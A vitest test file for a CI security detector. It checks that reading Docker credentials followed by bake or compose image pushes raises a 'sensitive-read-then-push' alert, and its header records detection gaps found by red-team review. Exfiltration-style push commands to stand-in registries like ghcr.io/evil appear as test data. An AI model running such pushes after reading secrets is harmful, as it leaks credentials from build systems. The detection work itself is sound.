/**
 * Builds that push through bake's `--set` or compose (found by red-team review): `docker buildx bake --set
 * *.push=true` was documented as a push but `--set` was read as a flag without a value, so its
 * `*.push=true` was a positional and nothing matched; `--set *.output=type=registry`, `--set
 * *.cache-to=type=registry,ref=…` and `docker compose build --push` were never pushes. Each uploads the
 * images built from a context the job may have filled with stolen files.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

function buildAfterSecret(args: string, source: 'tetragon' | 'falco' = 'tetragon', binary = '/usr/bin/docker') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'build-9', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/root/.docker/config.json', 300).wait(1_000);
  const p = s.exec(c, binary, args, { parent: sh });
  s.wait(500).exit(p);
  return run(s.events).alerts;
}

describe('bake and compose builds that push', () => {
  for (const source of ['tetragon', 'falco'] as const)
    it(`docker buildx bake --set *.push=true is a push (${source})`, () => {
      expect(brief(buildAfterSecret('buildx bake --set *.push=true', source))).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: null },
      ]);
    });

  it('so are --set outputs and caches to a registry, and compose build --push', () => {
    for (const args of [
      'buildx bake --set *.output=type=registry',
      'buildx bake --set app.cache-to=type=registry,ref=ghcr.io/evil/c',
      'compose build --push',
    ])
      expect(brief(buildAfterSecret(args))).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
  });

  // Found by review: bake and BuildKit read `push` with Go's strconv.ParseBool, so `1`, `t`, `TRUE` push too.
  it('so is a push set to any true value, and an output that pushes', () => {
    for (const args of [
      'buildx bake --set *.push=1',
      'buildx bake --set app.push=TRUE',
      'buildx build --output type=image,name=ghcr.io/evil/x,push=1 -t x /srv',
    ])
      expect(brief(buildAfterSecret(args)), args).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
    for (const args of ['buildx bake --set *.args.push=true', 'buildx bake --set *.push=0'])
      expect(buildAfterSecret(args), args).toEqual([]);
  });

  // Later red-team review: CI images often carry compose and buildx as standalone binaries (`docker-compose
  // push`, `buildx bake --push`), which no entry named. The registries are in the compose or bake file: the
  // alert says so rather than only "an unknown destination".
  it('the standalone compose and buildx binaries push too, to a destination their file names', () => {
    for (const [binary, args] of [
      ['/usr/local/bin/docker-compose', '-f docker-compose.ci.yml push'],
      ['/usr/local/bin/docker-compose', 'build --push'],
      ['/usr/local/bin/buildx', 'bake --push'],
    ] as const) {
      const alerts = buildAfterSecret(args, 'tetragon', binary);
      expect(brief(alerts), args).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: null },
      ]);
      const file = binary.endsWith('buildx') ? 'the bake file' : 'the compose file';
      expect(alerts[0]!.summary, args).toContain(`an unknown destination (named in ${file}`);
    }
    expect(buildAfterSecret('compose push')[0]!.summary).toContain('(named in the compose file');
  });

  it('a compose plugin run by docker is one push, and dry runs and builds that keep their images stay quiet', () => {
    const s = new Scenario({ source: 'tetragon' });
    const c = s.container({ namespace: 'ci', pod: 'build-9', name: 'job' });
    const sh = s.init(c);
    s.read(sh, '/root/.docker/config.json', 300).wait(1_000);
    const docker = s.exec(c, '/usr/bin/docker', 'compose push', { parent: sh });
    const plugin = s.wait(5).exec(c, '/usr/libexec/docker/cli-plugins/docker-compose', 'compose push', {
      parent: docker,
    });
    s.wait(500).exit(plugin).exit(docker);
    expect(brief(run(s.events).alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: null },
    ]);
    for (const [binary, args] of [
      ['/usr/local/bin/docker-compose', 'up -d'],
      ['/usr/local/bin/docker-compose', 'build'],
      ['/usr/local/bin/docker-compose', '--dry-run push'],
      ['/usr/bin/docker', 'compose --dry-run push'],
      ['/usr/local/bin/buildx', 'bake'],
      ['/usr/bin/docker', 'buildx bake --print --push'],
    ] as const)
      expect(buildAfterSecret(args, 'tetragon', binary), args).toEqual([]);
  });

  it('bake and compose builds that keep their images stay quiet', () => {
    for (const args of [
      'buildx bake',
      'buildx bake --set *.cache-from=type=registry,ref=ghcr.io/acme/c',
      'compose build',
    ])
      expect(buildAfterSecret(args)).toEqual([]);
  });
});
